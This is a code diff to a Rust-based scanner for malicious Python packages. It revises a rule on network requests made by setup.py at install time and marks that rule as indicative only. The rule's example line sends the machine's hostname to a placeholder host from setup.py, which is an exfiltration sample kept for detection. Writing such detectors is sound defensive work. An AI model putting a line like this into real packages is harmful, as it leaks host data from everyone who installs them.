@@ -286,7 +286,7 @@ correlation!(
     InstallTime,
     Some("T1195.002"),
     "A Python package's install-time code (setup.py, build backend, .pth) uses the network.",
-    "PyPI builds are meant to be offline and isolated, so honest setup.py files do not make requests; probes and droppers do, on every machine that runs pip install.",
+    "Probes and droppers make requests from setup.py on every machine that runs pip install. Honest builds do too, if rarely (native libraries whose sources or binaries the build downloads), so alone it makes a package suspicious; what the request sends or what runs of what it got (host data, a fixed host, a download that runs, a response run as a command) makes it malicious.",
     "setup.py: urllib.request.urlopen('https://x.example/?h=' + socket.gethostname())"
 );
 
@@ -325,6 +325,7 @@ pub const PLACEMENT_ONLY_CAP: f64 = 3.5;
 pub fn is_indicative(rule: &RuleInfo) -> bool {
     ![
         INSTALL_NETWORK.id,
+        SETUP_NETWORK.id,
         INSTALL_DOWNLOAD.id,
         IMPORT_TIME_ACTION.id,
         INSTALL_PROCESS.id,
